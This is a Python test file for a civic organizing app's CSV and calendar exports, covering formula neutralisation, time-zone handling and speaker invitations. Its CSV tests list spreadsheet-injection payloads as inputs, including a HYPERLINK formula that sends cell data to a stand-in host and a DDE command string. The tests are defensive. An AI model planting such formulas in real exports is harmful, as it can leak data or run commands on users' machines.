"""CSV for Excel with formulas neutralised; calendars checked by independent readers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from zoneinfo import ZoneInfo

import icalendar
import pytest
from dateutil import tz as dateutil_tz

from organizer.domain.enums import (
    MeetingKind,
    MeetingStatus,
    OrdinanceStage,
    OverflowPolicy,
    SignupStatus,
)
from organizer.domain.models import GoverningBody, Meeting, Person, Signup
from organizer.exports import ics
from organizer.exports.csv_export import csv_bytes, neutralize
from organizer.exports.vtimezone import vtimezone
from organizer.imports.people_csv import parse_people_csv

CHICAGO = ZoneInfo("America/Chicago")
UTC = dt.UTC
NOW = dt.datetime(2026, 2, 1, 12, 0, tzinfo=UTC)


# --- CSV -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+SUM(1,2)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "+1 (309) 555-0101",
        "-",
        "\uff1d1+1",  # full-width equals sign, which some programs also evaluate
    ],
)
def test_formula_like_text_gets_a_leading_apostrophe(text):
    assert neutralize(text) == "'" + text


@pytest.mark.parametrize("text", ["+13095551234", "-12", "3.5", "-0.25", "Ana Pérez", "", "a=b", "61701"])
def test_plain_numbers_and_ordinary_text_are_left_alone(text):
    assert neutralize(text) == text


def test_csv_is_utf8_with_bom_and_crlf_and_reads_back():
    data = csv_bytes(
        ["name", "note", "count", "ok", "day", "tags", "missing"],
        [
            ["Zoë Muñoz", "line one\nline two", 3, True, dt.date(2026, 3, 9), ["ride", "childcare"], None],
            ["=cmd()", "+13095551234", -4, False, dt.date(2026, 11, 9), [], ""],
        ],
    )
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") == 3  # the quoted newline stays a bare \n inside its cell
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["name", "note", "count", "ok", "day", "tags", "missing"]
    assert rows[1] == ["Zoë Muñoz", "line one\nline two", "3", "yes", "2026-03-09", "ride; childcare", ""]
    assert rows[2] == ["'=cmd()", "+13095551234", "-4", "no", "2026-11-09", "", ""]


def test_exported_csv_imports_back_with_the_apostrophes_removed():
    data = csv_bytes(
        ["first_name", "last_name", "email", "phone"],
        [["=Ana", "-Pérez", "ana@example.org", "+13095550101"]],
    )
    [row] = parse_people_csv(data).rows
    assert row.fields == {
        "first_name": "=Ana",
        "last_name": "-Pérez",
        "email": "ana@example.org",
        "phone": "+13095550101",
    }


# --- calendars --------------------------------------------------------------------------


def bloomington() -> GoverningBody:
    return GoverningBody(
        id=1,
        name="Bloomington City Council",
        short_name="Bloomington",
        seats=9,
        timezone="America/Chicago",
        meeting_place="City Hall council chambers",
        meeting_address="109 E. Olive St., Bloomington, IL",
        minutes_per_speaker=3,
        comment_window_minutes=30,
        signup_deadline_minutes=5,
        overflow_policy=OverflowPolicy.LOTTERY,
        signup_instructions="Fill in a speaker card at the clerk's desk.",
    )


def meeting(body: GoverningBody, meeting_id: int, local_start: dt.datetime, **fields) -> Meeting:
    values = {
        "kind": MeetingKind.REGULAR,
        "status": MeetingStatus.SCHEDULED,
        "ordinance_stage": OrdinanceStage.NONE,
        "title": "",
        "place": "",
        "address": "",
        "agenda_item": "",
        "notes": "",
        "version": 1,
    }
    values.update(fields)
    return Meeting(id=meeting_id, body=body, starts_at=local_start.replace(tzinfo=CHICAGO), **values)


@pytest.fixture
def two_meetings():
    body = bloomington()
    march = meeting(
        body,
        1,
        dt.datetime(2026, 3, 9, 18, 0),
        agenda_item="Welcoming City Ordinance: first reading",
        ordinance_stage=OrdinanceStage.FIRST_READING,
        notes="Council member Hale wobbling -- INTERNAL",
    )
    november = meeting(body, 2, dt.datetime(2026, 11, 9, 18, 0), status=MeetingStatus.CANCELLED, version=3)
    return march, november


def unfold(data: bytes) -> str:
    return data.decode("utf-8").replace("\r\n ", "")


def test_meetings_calendar_parses_and_lands_on_the_right_utc_instants(two_meetings):
    data = ics.meetings_calendar(two_meetings, name="Council meetings", now=NOW)
    calendar = icalendar.Calendar.from_ical(data)
    assert str(calendar["PRODID"]) == ics.PRODID
    assert str(calendar["VERSION"]) == "2.0"
    events = calendar.walk("VEVENT")
    assert [str(e["UID"]) for e in events] == ["meeting-1@organizer.local", "meeting-2@organizer.local"]
    starts = [e.decoded("DTSTART").astimezone(UTC) for e in events]
    # 18:00 in Bloomington is 23:00 UTC in March (CDT) and midnight UTC in November (CST).
    assert starts == [dt.datetime(2026, 3, 9, 23, 0, tzinfo=UTC), dt.datetime(2026, 11, 10, 0, 0, tzinfo=UTC)]
    assert [e.decoded("DTEND") - e.decoded("DTSTART") for e in events] == [ics.MEETING_LENGTH] * 2
    assert [str(e["STATUS"]) for e in events] == ["CONFIRMED", "CANCELLED"]
    assert all(e.decoded("DTSTAMP") == NOW for e in events)
    assert [int(e["SEQUENCE"]) for e in events] == [0, 2]
    march = events[0]
    assert str(march["LOCATION"]) == "City Hall council chambers, 109 E. Olive St., Bloomington, IL"
    description = str(march["DESCRIPTION"])
    assert "Welcoming City Ordinance: first reading" in description
    assert "3 minutes per speaker" in description and "lottery" in description
    assert "speaker card" in description
    assert "INTERNAL" not in data.decode("utf-8")
    assert calendar.get_missing_tzids() == set()


def test_calendar_text_checked_without_icalendar(two_meetings):
    """A second, independent reading: the raw lines, and dateutil's own VTIMEZONE parser."""
    data = ics.meetings_calendar(two_meetings, now=NOW)
    assert b"\n" not in data.replace(b"\r\n", b"")  # CRLF only
    assert all(len(line) <= 75 for line in data.split(b"\r\n"))  # folded at 75 octets
    text = unfold(data)
    assert "DTSTART;TZID=America/Chicago:20260309T180000" in text
    assert "DTSTART;TZID=America/Chicago:20261109T180000" in text
    assert "DTSTAMP:20260201T120000Z" in text
    assert text.index("BEGIN:VTIMEZONE") < text.index("BEGIN:VEVENT")

    vtimezone_text = re.search(r"BEGIN:VTIMEZONE\r\n.*?END:VTIMEZONE\r\n", text, re.S).group(0)
    zone = dateutil_tz.tzical(io.StringIO(vtimezone_text)).get("America/Chicago")
    for stamp, expected in (
        ("20260309T180000", dt.datetime(2026, 3, 9, 23, 0, tzinfo=UTC)),
        ("20261109T180000", dt.datetime(2026, 11, 10, 0, 0, tzinfo=UTC)),
    ):
        local = dt.datetime.strptime(stamp, "%Y%m%dT%H%M%S").replace(tzinfo=zone)
        assert local.astimezone(UTC) == expected


@pytest.mark.parametrize(
    ("tzid", "first", "last"),
    [
        ("America/Chicago", 2026, 2028),
        ("America/Chicago", 2005, 2008),  # the 2007 US rule change: onsets listed as RDATEs
        ("Europe/Berlin", 2026, 2027),
        ("Australia/Sydney", 2026, 2027),  # summer time across the new year
        ("America/Phoenix", 2026, 2027),  # no daylight saving at all
    ],
)
def test_vtimezone_agrees_with_zoneinfo_every_hour(tzid, first, last):
    text = vtimezone(tzid, first, last).to_ical().decode()
    independent = dateutil_tz.tzical(io.StringIO(text)).get(tzid)
    system = ZoneInfo(tzid)
    moment = dt.datetime(first, 1, 1, tzinfo=UTC)
    while moment < dt.datetime(last + 1, 1, 1, tzinfo=UTC):
        assert moment.astimezone(independent).utcoffset() == moment.astimezone(system).utcoffset(), moment
        moment += dt.timedelta(hours=1)  # changes happen on the hour: an onset an hour off shows


def test_chicago_vtimezone_is_the_familiar_rule_with_onsets_in_the_old_offset():
    text = unfold(vtimezone("America/Chicago", 2026, 2027).to_ical())
    daylight = text[text.index("BEGIN:DAYLIGHT"):text.index("END:DAYLIGHT")]
    standard = text[text.index("BEGIN:STANDARD"):text.index("END:STANDARD")]
    # RFC 5545 reads DTSTART in TZOFFSETFROM: the spring change happens at 02:00 CST.
    assert "DTSTART:20250309T020000" in daylight
    assert "BYMONTH=3" in daylight and "BYDAY=2SU" in daylight
    assert "TZOFFSETFROM:-0600" in daylight and "TZOFFSETTO:-0500" in daylight
    assert "DTSTART:20251102T020000" in standard
    assert "BYMONTH=11" in standard and "BYDAY=1SU" in standard


def test_a_meeting_keeps_its_council_feed_uid():
    body = bloomington()
    imported = meeting(body, 9, dt.datetime(2026, 4, 13, 18, 0), ics_uid="civicplus-8812@cityblm.org")
    calendar = icalendar.Calendar.from_ical(ics.meetings_calendar([imported], now=NOW))
    assert str(calendar.walk("VEVENT")[0]["UID"]) == "civicplus-8812@cityblm.org"


def test_postponed_meeting_is_struck_out_and_says_why():
    body = bloomington()
    postponed = meeting(body, 3, dt.datetime(2026, 5, 11, 18, 0), status=MeetingStatus.POSTPONED)
    [event] = icalendar.Calendar.from_ical(ics.meetings_calendar([postponed], now=NOW)).walk("VEVENT")
    assert str(event["STATUS"]) == "CANCELLED"
    assert "postponed" in str(event["DESCRIPTION"])


def speaker(language: str, position: int = 3) -> Signup:
    body = bloomington()
    march = meeting(body, 1, dt.datetime(2026, 3, 9, 18, 0), agenda_item="Welcoming City Ordinance")
    others = [
        Signup(id=100 + i, meeting=march, person=Person(first_name=f"P{i}"), position=i,
               status=SignupStatus.CONFIRMED, version=1)
        for i in (1, 2)
    ]
    person = Person(id=5, first_name="José", last_name="Muñoz", packet_language=language)
    signup = Signup(id=7, meeting=march, person=person, position=position, status=SignupStatus.CONFIRMED,
                    minutes=None, version=1)
    assert len(others) == 2
    return signup


def test_speaker_invitation_in_spanish_with_two_reminders():
    data = ics.speaker_invitation(speaker("es"), contact="Ana, (309) 555-0100", now=NOW)
    calendar = icalendar.Calendar.from_ical(data)
    [event] = calendar.walk("VEVENT")
    assert str(event["UID"]).startswith("signup-7-") and str(event["UID"]).endswith("@organizer.local")
    # Arrive 30 minutes early (the 5-minute sign-up deadline plus a margin is less).
    assert event.decoded("DTSTART").astimezone(UTC) == dt.datetime(2026, 3, 9, 22, 30, tzinfo=UTC)
    assert event.decoded("DTEND").astimezone(UTC) == dt.datetime(2026, 3, 10, 1, 0, tzinfo=UTC)
    assert str(event["SUMMARY"]) == "Hablar en Bloomington (comentario público, turno 3)"
    description = str(event["DESCRIPTION"])
    assert "llegue antes de las 5:30 p. m." in description
    assert "turno 3 de 3" in description
    assert "Tiene 3 minutos." in description
    assert "¿Preguntas? Ana, (309) 555-0100" in description
    alarms = event.walk("VALARM")
    assert sorted(a.decoded("TRIGGER") for a in alarms) == [-dt.timedelta(days=1), -dt.timedelta(hours=2)]
    assert all(str(a["ACTION"]) == "DISPLAY" and str(a["DESCRIPTION"]) for a in alarms)
    text = unfold(data)
    assert "DTSTART;TZID=America/Chicago:20260309T173000" in text
    assert "TRIGGER:-P1D" in text and "TRIGGER:-PT2H" in text
    assert "BEGIN:VTIMEZONE" in text


def test_speaker_invitation_in_english_and_a_long_advance_deadline():
    signup = speaker("en", position=1)
    signup.meeting.signup_deadline_minutes = 120  # advance notice, given by the coordinator
    [event] = icalendar.Calendar.from_ical(ics.speaker_invitation(signup, now=NOW)).walk("VEVENT")
    assert str(event["SUMMARY"]) == "Speak at Bloomington (public comment, speaker 1)"
    assert "Please arrive by 5:30 PM; the meeting starts at 6:00 PM." in str(event["DESCRIPTION"])
    signup.meeting.signup_deadline_minutes = 30  # signed up at the door
    assert ics.arrive_by(signup.meeting).astimezone(CHICAGO).time() == dt.time(17, 15)


def test_speakers_are_numbered_among_those_speaking_not_by_position():
    signup = speaker("en", position=5)
    march = signup.meeting
    # Place 1 was cancelled and place 4 is on the waiting list: José speaks second, of two.
    march.signups[0].status = SignupStatus.CANCELLED
    Signup(id=104, meeting=march, person=Person(first_name="W"), position=4, status=SignupStatus.WAITLISTED)
    assert [s.id for s in ics.speaking_order(march)] == [102, 7]
    assert ics.speaker_number(signup) == 2 and ics.active_speaker_count(march) == 2
    assert ics.speaker_number(march.signups[0]) is None
    [event] = icalendar.Calendar.from_ical(ics.speaker_invitation(signup, now=NOW)).walk("VEVENT")
    assert str(event["SUMMARY"]) == "Speak at Bloomington (public comment, speaker 2)"
    assert "Your place on our list: speaker 2 of 2." in str(event["DESCRIPTION"])
